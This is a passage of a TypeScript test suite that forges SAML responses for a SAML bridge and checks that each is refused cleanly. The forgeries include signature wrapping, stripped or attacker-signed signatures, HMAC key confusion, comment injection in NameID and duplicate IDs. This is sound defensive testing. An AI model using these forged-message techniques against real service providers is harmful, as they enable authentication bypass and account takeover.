/**
 * The SAML attack suite: every attack class of shared/SAML-ATTACKS.md §1–§6, generated here from genuinely
 * signed responses (TestIdp, answering a pending AuthnRequest of the bridge) and posted to the real bridge.
 *
 * Every refused vector must give a 4xx (never a 5xx) HTML page with the expected reason code, no stack
 * trace and no XML echo, no session cookie, and no user for the attacker's identity.
 */
import { createHash, X509Certificate } from 'node:crypto';
import { inflateRawSync } from 'node:zlib';
import { DOMParser } from 'xmldom-0.9';
import type supertest from 'supertest';
import { SignedXml } from 'xml-crypto';
import type { SamlReason } from '../../src/saml/saml-rejection';
import {
  assertionPlusEncrypted,
  commentInDigestValue,
  commentInjection,
  deflateBomb,
  dsObjectWrap,
  duplicateIdVariants,
  encryptedTwin,
  EVIL_NAME_ID,
  hmacSignatureMethod,
  hugeBase64Response,
  multipleAssertions,
  secondSignedInfo,
  stripSignatures,
  tamperByte,
  trailingRoot,
  withDoctype,
  xswVariants,
} from '../support/saml-attacks';
import {
  cookieFrom,
  createTestConnection,
  followContinue,
  reasonOf,
  SamlConnectionFixture,
  startLogin,
} from '../support/saml-flow';
import {
  AssertionInput,
  C14N_EXC,
  DS_NS,
  encryptAssertion,
  EncryptionSpec,
  generateTestKeyPair,
  LogoutRequestInput,
  newSamlId,
  ResponseOptions,
  SAML_NS,
  samlInstant,
  SignMode,
  signRootElement,
  TestIdp,
  TestKeyPair,
  TRANSFORM_ENVELOPED,
} from '../support/saml-test-idp';
import { databaseKinds, postgresAvailable, startTestApp, TestApp } from '../support/test-app';
import { need } from '../support/defined';

type HttpResponse = supertest.Response;

/** The genuine user the IdP vouches for. */
const VICTIM = { subject: 'victim-0001', email: 'victim@example.com' };
/** The identity attackers try to become. */
const EVIL = { subject: 'evil-admin-0666', email: EVIL_NAME_ID };
/** The account a comment-injection attacker registers at the IdP, and the one they hope to get. */
const COMMENT_ACCOUNT = 'admin@example.com.evil.com';
const COMMENT_TARGET = 'admin@example.com';
/** Identities that must never be provisioned by a refused message. */
const EVIL_IDENTITIES = [EVIL.subject, EVIL.email, COMMENT_TARGET];

const EVIL_SP = 'https://evil-sp.example';
const EVIL_IDP = 'https://evil-idp.example/metadata';
const HOLDER_OF_KEY = 'urn:oasis:names:tc:SAML:2.0:cm:holder-of-key';
const RSA_MD5 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-md5';
const XSLT = 'http://www.w3.org/TR/1999/REC-xslt-19991116';
const EXC_C14N_WITH_COMMENTS = 'http://www.w3.org/2001/10/xml-exc-c14n#WithComments';
const WSU_NS = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd';

const minutesFromNow = (minutes: number): Date => new Date(Date.now() + minutes * 60_000);

function requireMatch(re: RegExp, text: string, what: string): RegExpExecArray {
  const m = re.exec(text);
  if (!m) throw new Error(`test setup: ${what} not found`);
  return m;
}

/** Replaces the first occurrence of `search` (literally: no `$` patterns) and insists that there was one. */
function replaceOnce(text: string, search: string | RegExp, replacement: string): string {
  const found = typeof search === 'string' ? text.includes(search) : search.test(text);
  if (!found) throw new Error(`test setup: ${String(search).slice(0, 80)} not found`);
  return text.replace(search, () => replacement);
}

/** Puts `inner` in a samlp:Extensions of the Response (schema position: right before Status). */
function withExtensions(xml: string, inner: string): string {
  return replaceOnce(xml, '<samlp:Status>', `<samlp:Extensions>${inner}</samlp:Extensions><samlp:Status>`);
}

/** Adds an attribute to the first start tag of `element` (e.g. 'saml:SubjectConfirmationData'). */
function addAttribute(xml: string, element: string, attribute: string): string {
  return replaceOnce(xml, `<${element} `, `<${element} ${attribute} `);
}

/** Sets attribute `name` on the first `element` start tag that has it. */
function setAttribute(xml: string, element: string, name: string, value: string): string {
  const re = new RegExp(`(<${element}\\b[^>]*?\\s${name}=")[^"]*`);
  if (!re.test(xml)) throw new Error(`test setup: ${element}@${name} not found`);
  return xml.replace(re, (_m, head: string) => head + value);
}

/** SHA-256 digest of an element under enveloped-signature + exc-c14n, as a verifier computes it. */
function referenceDigest(xml: string, localName: string): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const el = doc.getElementsByTagNameNS(SAML_NS, localName).item(0);
  if (el === null) throw new Error(`test setup: ${localName} not found`);
  const canon = new SignedXml().getCanonXml(
    [TRANSFORM_ENVELOPED, C14N_EXC],
    el as unknown as Parameters<SignedXml['getCanonXml']>[1],
  );
  return createHash('sha256').update(canon, 'utf8').digest('base64');
}

function utf16(xml: string, variant: 'le-bom' | 'be-bom' | 'le'): Buffer {
  const text = `<?xml version="1.0" encoding="UTF-16"?>${xml}`;
  const le = Buffer.from(variant === 'le' ? text : `\ufeff${text}`, 'utf16le');
  return variant === 'be-bom' ? le.swap16() : le;
}

/** No stack trace, no source paths, no (escaped or raw) SAML XML in what the browser is shown. */
function expectNoInternals(text: string): void {
  expect(text).not.toMatch(/\bat [\w$.<>]+ \(/);
  expect(text).not.toMatch(/node_modules|\/src\/|\.ts:\d+/);
  expect(text).not.toMatch(/(<|&lt;|&#60;)\/?(samlp?|ds|xenc|e|atk|x):/i);
  expect(text).not.toContain('<?xml');
  expect(text).not.toMatch(/-----BEGIN/);
}

describe.each(databaseKinds().slice(0, 1))('SAML attack suite (SAML-ATTACKS.md §1–§6) on %s', (kind) => {
  let t: TestApp;
  /** generic preset, requiredSignature 'either': the default target. */
  let c: SamlConnectionFixture;
  /** requiredSignature 'response'. */
  let cResponse: SamlConnectionFixture;
  /** requiredSignature 'assertion'. */
  let cAssertion: SamlConnectionFixture;
  /** allowSha1 = true. */
  let cSha1: SamlConnectionFixture;
  /** allowIdpInitiated, idpInitiatedTarget /home. */
  let cIdp: SamlConnectionFixture;
  /** Another tenant of the bridge on the SAME IdP as `c`. */
  let cTenantB: SamlConnectionFixture;
  /** For flows that need a successful login first. */
  let cOk: SamlConnectionFixture;
  let attacker: TestKeyPair;
  const spCerts = new Map<string, string>();

  beforeAll(async () => {
    t = await startTestApp(kind);
    c = await createTestConnection(t, 'atk');
    cResponse = await createTestConnection(t, 'atk-resp', { options: { requiredSignature: 'response' } });
    cAssertion = await createTestConnection(t, 'atk-assert', {
      options: { requiredSignature: 'assertion' },
    });
    cSha1 = await createTestConnection(t, 'atk-sha1', { options: { allowSha1: true } });
    cIdp = await createTestConnection(t, 'atk-idp', {
      allowIdpInitiated: true,
      options: { idpInitiatedTarget: '/home' },
    });
    cTenantB = await createTestConnection(t, 'atk-tenant-b', {}, c.idp);
    cOk = await createTestConnection(t, 'atk-ok');
    attacker = await generateTestKeyPair('Attacker');
  });
  afterAll(async () => t?.close());

  // -------------------------------------------------------------------------------------------------------
  // Helpers
  // -------------------------------------------------------------------------------------------------------

  const victim = (conn: SamlConnectionFixture, extra: Partial<AssertionInput> = {}): AssertionInput => ({
    spEntityId: conn.spEntityId,
    acsUrl: conn.acsUrl,
    nameId: VICTIM.subject,
    attributes: { email: VICTIM.email, givenName: 'Victor' },
    ...extra,
  });

  const evilIdentity = (): Partial<AssertionInput> => ({
    nameId: EVIL.subject,
    attributes: { email: EVIL.email, givenName: 'Mallory' },
  });

  /** A genuinely signed response to a NEW pending AuthnRequest of `conn`. */
  async function solicitedWithId(
    conn: SamlConnectionFixture,
    extra: Partial<AssertionInput> = {},
    opts: ResponseOptions = { sign: 'assertion' },
  ): Promise<{ xml: string; requestId: string }> {
    const { requestId } = await startLogin(t, conn.slug);
    const xml = await conn.idp.responseXmlAsync(victim(conn, { inResponseTo: requestId, ...extra }), opts);
    return { xml, requestId };
  }

  async function solicited(
    conn: SamlConnectionFixture,
    extra: Partial<AssertionInput> = {},
    opts: ResponseOptions = { sign: 'assertion' },
  ): Promise<string> {
    return (await solicitedWithId(conn, extra, opts)).xml;
  }

  /** The unsigned Response shell of `input` with `assertion` (any XML) in place of its assertion. */
  function wrap(conn: SamlConnectionFixture, assertion: string, input: AssertionInput): string {
    const shell = conn.idp.responseXml(input, { sign: 'none' });
    return replaceOnce(shell, /<saml:Assertion[\s\S]*<\/saml:Assertion>/, assertion);
  }

  /**
   * A solicited response whose assertion was edited BEFORE the IdP signed it (shapes TestIdp has no option
   * for): the signature is genuine, only the policy can refuse it.
   */
  async function signedEdited(
    conn: SamlConnectionFixture,
    edit: (assertion: string) => string,
    extra: Partial<AssertionInput> = {},
  ): Promise<string> {
    const { requestId } = await startLogin(t, conn.slug);
    const input = victim(conn, { inResponseTo: requestId, ...extra });
    const assertion = signRootElement(edit(conn.idp.assertionXml(input)), {
      keys: conn.idp.keys,
    });
    return wrap(conn, assertion, input);
  }

  async function spCertificate(conn: SamlConnectionFixture): Promise<string> {
    const known = spCerts.get(conn.id);
    if (known) return known;
    const res = await t.admin.get(`/api/v1/connections/${conn.id}/sp-keys`).expect(200);
    const current = (res.body.items as Array<{ status: string; certificatePem: string }>).find(
      (k) => k.status === 'current',
    );
    if (!current) throw new Error('test setup: no current SP key');
    spCerts.set(conn.id, current.certificatePem);
    return current.certificatePem;
  }

  async function postAcs(
    conn: SamlConnectionFixture,
    message: string | Buffer,
    relayState?: string,
  ): Promise<HttpResponse> {
    const SAMLResponse = typeof message === 'string' ? Buffer.from(message, 'utf8') : message;
    const acs = await t
      .http()
      .post(`/saml/${conn.slug}/acs`)
      .type('form')
      .send({
        SAMLResponse: SAMLResponse.toString('base64'),
        ...(relayState !== undefined ? { RelayState: relayState } : {}),
      });
    // An accepted response continues with a same-site GET by the browser that started the login.
    const location = acs.headers.location as string | undefined;
    if (acs.status === 303 && location?.startsWith(`/saml/${conn.slug}/continue?`)) {
      expect(cookieFrom(acs)).toBeUndefined();
      return followContinue(t, location, typeof message === 'string' ? message : '');
    }
    return acs;
  }

  async function userCount(conn: SamlConnectionFixture): Promise<number> {
    const res = await t.admin.get(`/api/v1/users?connectionId=${conn.id}&limit=1`).expect(200);
    return res.body.total as number;
  }

  /** Nobody, on any connection, has one of the attacker's identities as subject or email. */
  async function expectNoEvilUsers(identities: string[]): Promise<void> {
    const found: string[] = [];
    for (let offset = 0; ; offset += 200) {
      const res = await t.admin.get(`/api/v1/users?limit=200&offset=${offset}`).expect(200);
      const items = res.body.items as Array<{ subject: string; email: string | null }>;
      for (const u of items) {
        if (identities.includes(u.subject) || (u.email !== null && identities.includes(u.email))) {
          found.push(`${u.subject} <${u.email ?? ''}>`);
        }
      }
      if (items.length < 200) break;
    }
    expect(found).toEqual([]);
  }

  /** Sends an ACS attack and checks every property of a clean refusal. */
  async function expectAcsRefused(
    conn: SamlConnectionFixture,
    send: () => Promise<HttpResponse>,
    status: number,
    reason: SamlReason | string,
  ): Promise<HttpResponse> {
    const before = await userCount(conn);
    const res = await send();
    expect({ status: res.status, reason: reasonOf(res.text) }).toEqual({ status, reason });
    expect(res.headers['content-type']).toMatch(/^text\/html/);
    expect(cookieFrom(res)).toBeUndefined();
    expect(res.headers.location).toBeUndefined();
    expectNoInternals(res.text);
    expect(await userCount(conn)).toBe(before);
    await expectNoEvilUsers(EVIL_IDENTITIES);
    return res;
  }

  interface AcsVector {
    name: string;
    /** The connection the response is posted to (default `c`). */
    conn?: () => SamlConnectionFixture;
    build: (conn: SamlConnectionFixture) => Promise<string | Buffer>;
    reason: SamlReason;
    /** Default 400. */
    status?: number;
  }

  async function runVector(v: AcsVector): Promise<void> {
    const conn = v.conn?.() ?? c;
    const message = await v.build(conn);
    await expectAcsRefused(conn, () => postAcs(conn, message), v.status ?? 400, v.reason);
  }

  // -------------------------------------------------------------------------------------------------------
  // Controls: the untouched inputs the vectors are made from are accepted
  // -------------------------------------------------------------------------------------------------------

  it('control: the untouched responses the vectors are built from are accepted', async () => {
    for (const [conn, sign] of [
      [cOk, 'assertion'],
      [cOk, 'response'],
      [cOk, 'both'],
      [cResponse, 'response'],
      [cAssertion, 'assertion'],
    ] as Array<[SamlConnectionFixture, SignMode]>) {
      const res = await postAcs(conn, await solicited(conn, { nameId: `control-${sign}` }, { sign }));
      expect({ slug: conn.slug, sign, status: res.status }).toEqual({ slug: conn.slug, sign, status: 303 });
      expect(cookieFrom(res)).toBeDefined();
    }
    const encrypted = await solicited(
      cOk,
      { nameId: 'control-encrypted' },
      { sign: 'assertion', encrypt: { spCertificatePem: await spCertificate(cOk) } },
    );
    expect((await postAcs(cOk, encrypted)).status).toBe(303);
  });

  // -------------------------------------------------------------------------------------------------------
  // §1 XML Signature Wrapping
  // -------------------------------------------------------------------------------------------------------

  const xsw =
    (id: string, sign: SignMode) =>
    async (conn: SamlConnectionFixture): Promise<string> => {
      const xml = await solicited(conn, {}, { sign });
      const variant = xswVariants(xml, { nameId: EVIL.subject, email: EVIL.email }).find((v) => v.id === id);
      if (!variant) throw new Error(`test setup: no ${id} for sign=${sign}`);
      return variant.xml;
    };

  /** XSW9 shape: content tampered with, DigestValue recomputed, original SignedInfo/SignatureValue kept. */
  const xsw9 = async (conn: SamlConnectionFixture): Promise<string> => {
    const xml = await solicited(conn);
    const tampered = replaceOnce(xml, `>${VICTIM.subject}</saml:NameID>`, `>${EVIL.subject}</saml:NameID>`);
    return replaceOnce(
      tampered,
      /<ds:DigestValue>[^<]*<\/ds:DigestValue>/,
      `<ds:DigestValue>${referenceDigest(tampered, 'Assertion')}</ds:DigestValue>`,
    );
  };

  const wrappingVectors: AcsVector[] = [
    {
      name: 'XSW1, requiredSignature=response',
      conn: () => cResponse,
      build: xsw('XSW1', 'response'),
      reason: 'saml_duplicate_id',
    },
    { name: 'XSW1, requiredSignature=either', build: xsw('XSW1', 'response'), reason: 'saml_duplicate_id' },
    {
      name: 'XSW2, requiredSignature=response',
      conn: () => cResponse,
      build: xsw('XSW2', 'response'),
      reason: 'saml_duplicate_id',
    },
    { name: 'XSW2, requiredSignature=either', build: xsw('XSW2', 'response'), reason: 'saml_duplicate_id' },
    {
      name: 'XSW3 (evil assertion before the signed one)',
      build: xsw('XSW3', 'assertion'),
      reason: 'saml_multiple_assertions',
    },
    {
      name: 'XSW4 (signed assertion nested in the evil one)',
      build: xsw('XSW4', 'assertion'),
      reason: 'saml_multiple_assertions',
    },
    {
      name: 'XSW5 (signed assertion edited, clone with the original ID appended)',
      build: xsw('XSW5', 'assertion'),
      reason: 'saml_multiple_assertions',
    },
    {
      name: 'XSW6 (clone with the original ID inside ds:Signature)',
      build: xsw('XSW6', 'assertion'),
      reason: 'saml_multiple_assertions',
    },
    {
      name: 'XSW7 (same-ID evil assertion in samlp:Extensions)',
      build: xsw('XSW7', 'assertion'),
      reason: 'saml_duplicate_id',
    },
    {
      name: 'XSW8 (same-ID original in ds:Object)',
      build: xsw('XSW8', 'assertion'),
      reason: 'saml_duplicate_id',
    },
    {
      name: 'XSW3 on an assertion-required connection',
      conn: () => cAssertion,
      build: xsw('XSW3', 'assertion'),
      reason: 'saml_multiple_assertions',
    },
    {
      name: 'XSW9 (digest recomputed over tampered content, SignatureValue kept)',
      build: xsw9,
      reason: 'saml_signature_invalid',
    },
    {
      name: 'advice-wrap (signed assertion in saml:Advice of an evil one)',
      build: xsw('advice-wrap', 'assertion'),
      reason: 'saml_multiple_assertions',
    },
    {
      name: 'subjectconfirmationdata-wrap',
      build: xsw('subjectconfirmationdata-wrap', 'assertion'),
      reason: 'saml_multiple_assertions',
    },
  ];

  describe('§1 XML signature wrapping', () => {
    it.each(wrappingVectors)('$name → $reason', runVector);
  });

  // -------------------------------------------------------------------------------------------------------
  // §2 Signature presence, trust and algorithm
  // -------------------------------------------------------------------------------------------------------

  /** The attacker's key, with only an RSAKeyValue (no certificate) in KeyInfo. */
  const rsaKeyValueOnly = async (conn: SamlConnectionFixture): Promise<string> => {
    const xml = await solicited(conn, evilIdentity(), {
      sign: 'assertion',
      signingKeys: attacker,
      includeKeyInfo: false,
    });
    const jwk = new X509Certificate(attacker.certificatePem).publicKey.export({ format: 'jwk' });
    const b64 = (v: string | undefined) => Buffer.from(v ?? '', 'base64url').toString('base64');
    return replaceOnce(
      xml,
      '</ds:SignatureValue>',
      `</ds:SignatureValue><ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>${b64(jwk.n)}</ds:Modulus>` +
        `<ds:Exponent>${b64(jwk.e)}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>`,
    );
  };

  /** A self-signed certificate with the IdP certificate's subject (SAML Raider "clone certificate"). */
  const clonedCertificate = async (conn: SamlConnectionFixture): Promise<string> => {
    const subject = new X509Certificate(conn.idp.keys.certificatePem).subject; // "CN=IdP atk"
    const clone = await generateTestKeyPair(subject.replace(/^CN=/, ''));
    expect(new X509Certificate(clone.certificatePem).subject).toBe(subject);
    return solicited(conn, evilIdentity(), { sign: 'assertion', signingKeys: clone });
  };

  /** The assertion's signature moved to the Response: it references an element that is not its parent. */
  const signatureMoved = async (conn: SamlConnectionFixture): Promise<string> => {
    const xml = await solicited(conn);
    const signature = requireMatch(/<ds:Signature[\s\S]*?<\/ds:Signature>/, xml, 'ds:Signature')[0];
    return replaceOnce(
      xml.replace(signature, () => ''),
      '</saml:Issuer>',
      `</saml:Issuer>${signature}`,
    );
  };

  /** A genuinely IdP-signed LogoutRequest smuggled into Extensions next to an unsigned evil assertion. */
  const foreignSignedElement = async (conn: SamlConnectionFixture): Promise<string> => {
    const { requestId } = await startLogin(t, conn.slug);
    const signedElsewhere = conn.idp.logoutRequestXml(
      { spEntityId: conn.spEntityId, destination: conn.sloUrl, nameId: EVIL.subject },
      { sign: true },
    );
    const xml = conn.idp.responseXml(victim(conn, { inResponseTo: requestId, ...evilIdentity() }), {
      sign: 'none',
    });
    return withExtensions(xml, signedElsewhere);
  };

  const signatureVectors: AcsVector[] = [
    {
      name: 'every signature stripped (assertion-signed input)',
      build: async (conn) => stripSignatures(await solicited(conn, evilIdentity())).xml,
      reason: 'saml_signature_missing',
    },
    {
      name: 'every signature stripped (response-signed input)',
      build: async (conn) => stripSignatures(await solicited(conn, evilIdentity(), { sign: 'response' })).xml,
      reason: 'saml_signature_missing',
    },
    {
      name: 'unsigned Response wrapping an unsigned Assertion',
      build: (conn) => solicited(conn, evilIdentity(), { sign: 'none' }),
      reason: 'saml_signature_missing',
    },
    {
      name: 'only the assertion signed, connection requires the Response signature',
      conn: () => cResponse,
      build: (conn) => solicited(conn, evilIdentity(), { sign: 'assertion' }),
      reason: 'saml_signature_missing',
    },
    {
      name: 'only the Response signed, connection requires the assertion signature',
      conn: () => cAssertion,
      build: (conn) => solicited(conn, evilIdentity(), { sign: 'response' }),
      reason: 'saml_signature_missing',
    },
    {
      name: 'signature in a look-alike namespace (ds prefix redefined)',
      build: async (conn) =>
        replaceOnce(await solicited(conn), `xmlns:ds="${DS_NS}"`, `xmlns:ds="${DS_NS}evil"`),
      reason: 'saml_signature_missing',
    },
    {
      name: 'assertion re-signed with an attacker key, attacker certificate in KeyInfo',
      build: (conn) => solicited(conn, evilIdentity(), { sign: 'assertion', signingKeys: attacker }),
      reason: 'saml_signature_invalid',
    },
    {
      name: 'Response re-signed with an attacker key, attacker certificate in KeyInfo',
      build: (conn) => solicited(conn, evilIdentity(), { sign: 'response', signingKeys: attacker }),
      reason: 'saml_signature_invalid',
    },
    {
      name: 'both re-signed with an attacker key, connection requires the Response signature',
      conn: () => cResponse,
      build: (conn) => solicited(conn, evilIdentity(), { sign: 'both', signingKeys: attacker }),
      reason: 'saml_signature_invalid',
    },
    {
      name: 'signed with a self-signed clone of the IdP certificate (same subject)',
      build: clonedCertificate,
      reason: 'saml_signature_invalid',
    },
    {
      name: 'attacker key with only an RSAKeyValue in KeyInfo',
      build: rsaKeyValueOnly,
      reason: 'saml_signature_invalid',
    },
    {
      name: 'one byte of the signed NameID changed',
      build: async (conn) => tamperByte(await solicited(conn), 'nameid').xml,
      reason: 'saml_signature_invalid',
    },
    {
      name: 'one byte of a signed attribute value changed',
      build: async (conn) => tamperByte(await solicited(conn), 'attribute').xml,
      reason: 'saml_signature_invalid',
    },
    {
      name: 'signature over a different element (assertion signature moved onto the Response)',
      build: signatureMoved,
      reason: 'saml_signature_malformed',
    },
    {
      name: 'an IdP-signed LogoutRequest in Extensions next to an unsigned evil assertion',
      build: foreignSignedElement,
      reason: 'saml_signature_malformed',
    },
    {
      name: 'Reference URI="" (whole document)',
      build: async (conn) => replaceOnce(await solicited(conn), /URI="#[^"]+"/, 'URI=""'),
      reason: 'saml_signature_malformed',
    },
    {
      name: 'XSLT transform',
      build: async (conn) =>
        replaceOnce(
          await solicited(conn),
          `<ds:Transform Algorithm="${C14N_EXC}"/>`,
          `<ds:Transform Algorithm="${XSLT}"/>`,
        ),
      reason: 'saml_signature_malformed',
    },
    {
      name: 'three transforms',
      build: async (conn) =>
        replaceOnce(
          await solicited(conn),
          '</ds:Transforms>',
          `<ds:Transform Algorithm="${TRANSFORM_ENVELOPED}"/></ds:Transforms>`,
        ),
      reason: 'saml_signature_malformed',
    },
    {
      name: 'HMAC-SHA1 keyed with the IdP certificate (key confusion)',
      build: async (conn) => hmacSignatureMethod(await solicited(conn, evilIdentity())).xml,
      reason: 'saml_signature_algorithm_forbidden',
    },
    {
      name: 'RSA-SHA1 signature',
      build: (conn) => solicited(conn, {}, { sign: 'assertion', signatureAlgorithm: 'rsa-sha1' }),
      reason: 'saml_signature_algorithm_forbidden',
    },
    {
      name: 'SHA-1 digest',
      build: (conn) => solicited(conn, {}, { sign: 'assertion', digestAlgorithm: 'sha1' }),
      reason: 'saml_signature_algorithm_forbidden',
    },
    {
      name: 'RSA-SHA1 signature on the Response',
      conn: () => cResponse,
      build: (conn) => solicited(conn, {}, { sign: 'response', signatureAlgorithm: 'rsa-sha1' }),
      reason: 'saml_signature_algorithm_forbidden',
    },
    {
      name: 'RSA-MD5 (unknown) SignatureMethod',
      build: async (conn) =>
        replaceOnce(
          await solicited(conn),
          /(<ds:SignatureMethod Algorithm=")[^"]+/,
          `<ds:SignatureMethod Algorithm="${RSA_MD5}`,
        ),
      reason: 'saml_signature_algorithm_forbidden',
    },
    {
      name: '#WithComments canonicalization',
      build: async (conn) =>
        replaceOnce(
          await solicited(conn),
          `<ds:CanonicalizationMethod Algorithm="${C14N_EXC}"/>`,
          `<ds:CanonicalizationMethod Algorithm="${EXC_C14N_WITH_COMMENTS}"/>`,
        ),
      reason: 'saml_signature_algorithm_forbidden',
    },
    {
      name: 'second ds:SignedInfo (CVE-2025-29774 shape)',
      build: async (conn) => secondSignedInfo(await solicited(conn)).xml,
      reason: 'saml_signature_malformed',
    },
    {
      name: 'comment in DigestValue (CVE-2025-29775 shape)',
      build: async (conn) => commentInDigestValue(await solicited(conn)).xml,
      reason: 'saml_signature_malformed',
    },
    {
      name: 'ds:Object with harmless content inside the signature',
      build: async (conn) =>
        replaceOnce(
          await solicited(conn),
          '</ds:Signature>',
          '<ds:Object><atk:Marker xmlns:atk="urn:example:saml-attack"/></ds:Object></ds:Signature>',
        ),
      reason: 'saml_signature_malformed',
    },
    {
      name: 'ds:Object wrap: evil copy of the signed assertion in ds:Object',
      build: async (conn) => dsObjectWrap(await solicited(conn)).xml,
      reason: 'saml_multiple_assertions',
    },
    {
      name: 'ds:Object wrap: evil copy of the signed Response in ds:Object',
      conn: () => cResponse,
      build: async (conn) => dsObjectWrap(await solicited(conn, {}, { sign: 'response' })).xml,
      reason: 'saml_multiple_assertions',
    },
  ];

  describe('§2 signature presence, trust and algorithm', () => {
    it.each(signatureVectors)('$name → $reason', runVector);

    it('accepts RSA-SHA1 and SHA-1 digests only on a connection with allowSha1 = true', async () => {
      const res = await postAcs(
        cSha1,
        await solicited(
          cSha1,
          { nameId: 'legacy-sha1' },
          { sign: 'assertion', signatureAlgorithm: 'rsa-sha1', digestAlgorithm: 'sha1' },
        ),
      );
      expect(res.status).toBe(303);
      expect(cookieFrom(res)).toBeDefined();
      const users = await t.admin.get(`/api/v1/users?connectionId=${cSha1.id}`).expect(200);
      expect(users.body.items.map((u: { subject: string }) => u.subject)).toEqual(['legacy-sha1']);
      // allowSha1 is no licence for HMAC or MD5.
      await expectAcsRefused(
        cSha1,
        async () => postAcs(cSha1, hmacSignatureMethod(await solicited(cSha1, evilIdentity())).xml),
        400,
        'saml_signature_algorithm_forbidden',
      );
    });
  });

  // -------------------------------------------------------------------------------------------------------
  // §3 Content and semantics
  // -------------------------------------------------------------------------------------------------------

  const contentVectors: AcsVector[] = [
    {
      name: `comment injection in NameID (${COMMENT_ACCOUNT} → admin@example.com<!---->.evil.com)`,
      build: async (conn) => commentInjection(await solicited(conn, { nameId: COMMENT_ACCOUNT })).xml,
      reason: 'saml_comment_in_value',
    },
    {
      name: 'comment injection in the email attribute value',
      build: async (conn) =>
        replaceOnce(
          await solicited(conn, { attributes: { email: COMMENT_ACCOUNT } }),
          `>${COMMENT_ACCOUNT}</saml:AttributeValue>`,
          `>${COMMENT_TARGET}<!---->.evil.com</saml:AttributeValue>`,
        ),
      reason: 'saml_comment_in_value',
    },
    {
      name: 'CDATA section splitting the NameID (admin@example.com<![CDATA[.evil.com]]>)',
      build: async (conn) =>
        replaceOnce(
          await solicited(conn, { nameId: COMMENT_ACCOUNT }),
          `>${COMMENT_ACCOUNT}</saml:NameID>`,
          `>${COMMENT_TARGET}<![CDATA[.evil.com]]></saml:NameID>`,
        ),
      reason: 'saml_comment_in_value',
    },
    {
      name: 'a second, unsigned assertion after the signed one',
      build: async (conn) => {
        const { xml, requestId } = await solicitedWithId(conn);
        const evil = conn.idp.assertionXml(victim(conn, { inResponseTo: requestId, ...evilIdentity() }));
        return multipleAssertions(xml, evil).xml;
      },
      reason: 'saml_multiple_assertions',
    },
    {
      name: 'an Assertion plus an EncryptedAssertion',
      build: async (conn) => {
        const { xml, requestId } = await solicitedWithId(conn);
        const evil = conn.idp.assertionXml(victim(conn, { inResponseTo: requestId, ...evilIdentity() }));
        const encrypted = await encryptAssertion(evil, { spCertificatePem: await spCertificate(conn) });
        return assertionPlusEncrypted(xml, encrypted).xml;
      },
      reason: 'saml_multiple_assertions',
    },
    {
      name: 'duplicate ID: a second element with the signed ID',
      build: async (conn) => need(duplicateIdVariants(await solicited(conn))[0]).xml,
      reason: 'saml_duplicate_id',
    },
    {
      name: 'duplicate ID: the signed ID in Id="…" and id="…" attributes',
      build: async (conn) => need(duplicateIdVariants(await solicited(conn))[1]).xml,
      reason: 'saml_duplicate_id',
    },
    {
      name: 'duplicate ID: the signed ID in wsu:Id',
      build: async (conn) => {
        const xml = await solicited(conn);
        const id = requireMatch(/<saml:Assertion [^>]*\bID="([^"]+)"/, xml, 'assertion ID')[1];
        return withExtensions(
          xml,
          `<atk:Marker xmlns:atk="urn:example:saml-attack" xmlns:wsu="${WSU_NS}" wsu:Id="${id}"/>`,
        );
      },
      reason: 'saml_duplicate_id',
    },
    {
      name: 'duplicate ID on a response-signed input (marker in ds:Object)',
      conn: () => cResponse,
      build: async (conn) =>
        need(duplicateIdVariants(await solicited(conn, {}, { sign: 'response' }))[0]).xml,
      reason: 'saml_duplicate_id',
    },
    {
      name: 'a second root element after the signed document (CVE-2022-39299)',
      build: async (conn) => trailingRoot(await solicited(conn)).xml,
      reason: 'saml_malformed_xml',
    },
    {
      name: 'a second root element after a response-signed document',
      conn: () => cResponse,
      build: async (conn) => trailingRoot(await solicited(conn, {}, { sign: 'response' })).xml,
      reason: 'saml_malformed_xml',
    },
  ];

  const bindingVectors: AcsVector[] = [
    {
      name: 'unsolicited response on a connection that does not allow IdP-initiated login',
      build: async (conn) => conn.idp.responseXml(victim(conn, evilIdentity())),
      reason: 'saml_unsolicited_response',
    },
    {
      name: "InResponseTo of another connection's pending request",
      build: async (conn) => {
        const { requestId } = await startLogin(t, cOk.slug);
        return conn.idp.responseXml(victim(conn, { inResponseTo: requestId, ...evilIdentity() }));
      },
      reason: 'saml_in_response_to_unknown',
    },
    {
      name: 'InResponseTo of a request the bridge never made',
      build: async (conn) =>
        conn.idp.responseXml(victim(conn, { inResponseTo: newSamlId(), ...evilIdentity() })),
      reason: 'saml_in_response_to_unknown',
    },
    {
      name: 'InResponseTo longer than any request ID',
      build: async (conn) =>
        conn.idp.responseXml(victim(conn, { inResponseTo: `_${'a'.repeat(5000)}`, ...evilIdentity() })),
      reason: 'saml_in_response_to_unknown',
    },
    {
      name: "SubjectConfirmationData InResponseTo answers another pending request than the Response's",
      build: async (conn) => {
        const other = await startLogin(t, conn.slug);
        const { requestId } = await startLogin(t, conn.slug);
        const input = victim(conn, { inResponseTo: requestId, ...evilIdentity() });
        const assertion = signRootElement(
          conn.idp.assertionXml({ ...input, inResponseTo: other.requestId }),
          { keys: conn.idp.keys },
        );
        return wrap(conn, assertion, input);
      },
      reason: 'saml_in_response_to_mismatch',
    },
  ];

  const addressingVectors: AcsVector[] = [
    {
      name: 'Audience of another SP',
      build: (conn) => solicited(conn, { audience: `${EVIL_SP}/metadata` }),
      reason: 'saml_audience_mismatch',
    },
    {
      name: 'Recipient of another SP',
      build: (conn) => solicited(conn, { recipient: `${EVIL_SP}/acs` }),
      reason: 'saml_recipient_mismatch',
    },
    {
      name: 'Destination of another SP',
      build: (conn) => solicited(conn, { destination: `${EVIL_SP}/acs` }),
      reason: 'saml_destination_mismatch',
    },
    {
      name: 'Destination missing on a signed Response',
      conn: () => cResponse,
      build: (conn) => solicited(conn, { destination: null }, { sign: 'response' }),
      reason: 'saml_destination_mismatch',
    },
    {
      name: 'Response Issuer of another IdP (assertion Issuer genuine)',
      build: async (conn) =>
        replaceOnce(
          await solicited(conn),
          `<saml:Issuer>${conn.idp.entityId}</saml:Issuer>`,
          `<saml:Issuer>${EVIL_IDP}</saml:Issuer>`,
        ),
      reason: 'saml_issuer_mismatch',
    },
    {
      name: 'Assertion Issuer of another IdP (Response Issuer genuine)',
      build: async (conn) =>
        replaceOnce(
          await solicited(conn, { issuer: EVIL_IDP }),
